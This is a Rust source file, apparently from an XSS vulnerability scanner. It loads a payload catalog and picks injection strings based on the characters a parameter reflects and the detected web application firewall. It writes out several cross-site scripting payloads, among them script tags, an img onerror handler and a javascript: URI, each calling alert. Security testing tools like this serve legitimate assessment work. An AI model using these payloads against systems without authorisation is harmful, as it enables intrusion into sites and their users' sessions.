//! Payload catalog and WAF-aware payload selection.
//!
//! The catalog is immutable once loaded. Scores are computed into fresh
//! [`ScoredPayload`] values on every selection and never written back, so
//! concurrent scans cannot see each other's scores.

use crate::error::{HunterError, Result};
use crate::models::Payload;
use log::{info, warn};
use std::collections::HashSet;
use std::path::Path;

/// Upper bound on payloads attempted per parameter.
pub const MAX_SELECTED: usize = 20;

/// Payloads used when no catalog file is available.
pub fn default_payloads() -> Vec<Payload> {
    vec![
        Payload::new("<script>alert('XSS')</script>", &["\"", "'", "<", ">", "(", ")"], None),
        Payload::new("javascript:alert('XSS')", &[":", "(", ")", "'"], None),
        Payload::new("\"><script>alert('XSS')</script>", &["\"", ">", "<", "(", ")", "'"], None),
        Payload::new("'><script>alert('XSS')</script>", &["'", ">", "<", "(", ")", "'"], None),
        Payload::new("<img src=x onerror=alert('XSS')>", &["<", ">", "=", "(", ")", "'"], None),
    ]
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScoredPayload<'a> {
    pub payload: &'a Payload,
    pub score: usize,
}

/// Number of reflected characters the payload needs.
pub fn score(payload: &Payload, reflected: &HashSet<char>) -> usize {
    let required = payload.required_characters();
    reflected.iter().filter(|c| required.contains(c)).count()
}

/// At least half of the reflected characters must matter to the payload.
pub fn min_score(reflected_count: usize) -> usize {
    (reflected_count / 2).max(1)
}

#[derive(Debug, Clone)]
pub struct PayloadCatalog {
    payloads: Vec<Payload>,
}

impl PayloadCatalog {
    pub fn new(payloads: Vec<Payload>) -> Self {
        PayloadCatalog { payloads }
    }

    pub fn builtin() -> Self {
        Self::new(default_payloads())
    }

    pub fn parse(raw: &str) -> Result<Self> {
        let payloads: Vec<Payload> =
            serde_json::from_str(raw).map_err(|e| HunterError::Catalog(format!("invalid JSON: {}", e)))?;
        if payloads.is_empty() {
            return Err(HunterError::Catalog("catalog contains no payloads".to_string()));
        }
        Ok(Self::new(payloads))
    }

    pub async fn from_file(path: &Path) -> Result<Self> {
        let raw = tokio::fs::read_to_string(path)
            .await
            .map_err(|e| HunterError::Catalog(format!("{}: {}", path.display(), e)))?;
        Self::parse(&raw)
    }

    /// Load `path`, falling back to the built-in payloads on any failure.
    pub async fn load(path: Option<&Path>) -> Self {
        let Some(path) = path else {
            return Self::builtin();
        };

        match Self::from_file(path).await {
            Ok(catalog) => {
                info!("Loaded {} payloads from {}", catalog.len(), path.display());
                catalog
            }
            Err(e) => {
                warn!("{}; using {} built-in payloads", e, default_payloads().len());
                Self::builtin()
            }
        }
    }

    pub fn len(&self) -> usize {
        self.payloads.len()
    }

    pub fn is_empty(&self) -> bool {
        self.payloads.is_empty()
    }

    pub fn payloads(&self) -> &[Payload] {
        &self.payloads
    }

    /// Vendor-specific payloads when the firewall has any, generic ones otherwise.
    pub fn candidates(&self, firewall: Option<&str>) -> Vec<&Payload> {
        if let Some(fw) = firewall {
            let specific: Vec<&Payload> = self
                .payloads
                .iter()
                .filter(|p| p.waf.as_deref().is_some_and(|w| w.trim().eq_ignore_ascii_case(fw.trim())))
                .collect();
            if !specific.is_empty() {
                return specific;
            }
            info!("No payloads specific to {}, using generic payloads", fw);
        }

        self.payloads.iter().filter(|p| p.is_generic()).collect()
    }

    /// Score candidates against `reflected`, ranked best first. Ties keep catalog order.
    pub fn rank<'a>(&'a self, reflected: &HashSet<char>, firewall: Option<&str>) -> Vec<ScoredPayload<'a>> {
        let mut scored: Vec<ScoredPayload<'a>> = self
            .candidates(firewall)
            .into_iter()
            .map(|payload| ScoredPayload {
                payload,
                score: score(payload, reflected),
            })
            .collect();
        scored.sort_by(|a, b| b.score.cmp(&a.score));
        scored
    }

    /// Payload strings worth sending for a parameter that reflects `reflected`.
    pub fn select(&self, reflected: &[char], firewall: Option<&str>) -> Vec<String> {
        if reflected.is_empty() {
            return Vec::new();
        }

        let reflected: HashSet<char> = reflected.iter().copied().collect();
        let threshold = min_score(reflected.len());

        self.rank(&reflected, firewall)
            .into_iter()
            .filter(|s| s.score >= threshold)
            .take(MAX_SELECTED)
            .map(|s| s.payload.content.clone())
            .collect()
    }
}

impl Default for PayloadCatalog {
    fn default() -> Self {
        Self::builtin()
    }
}
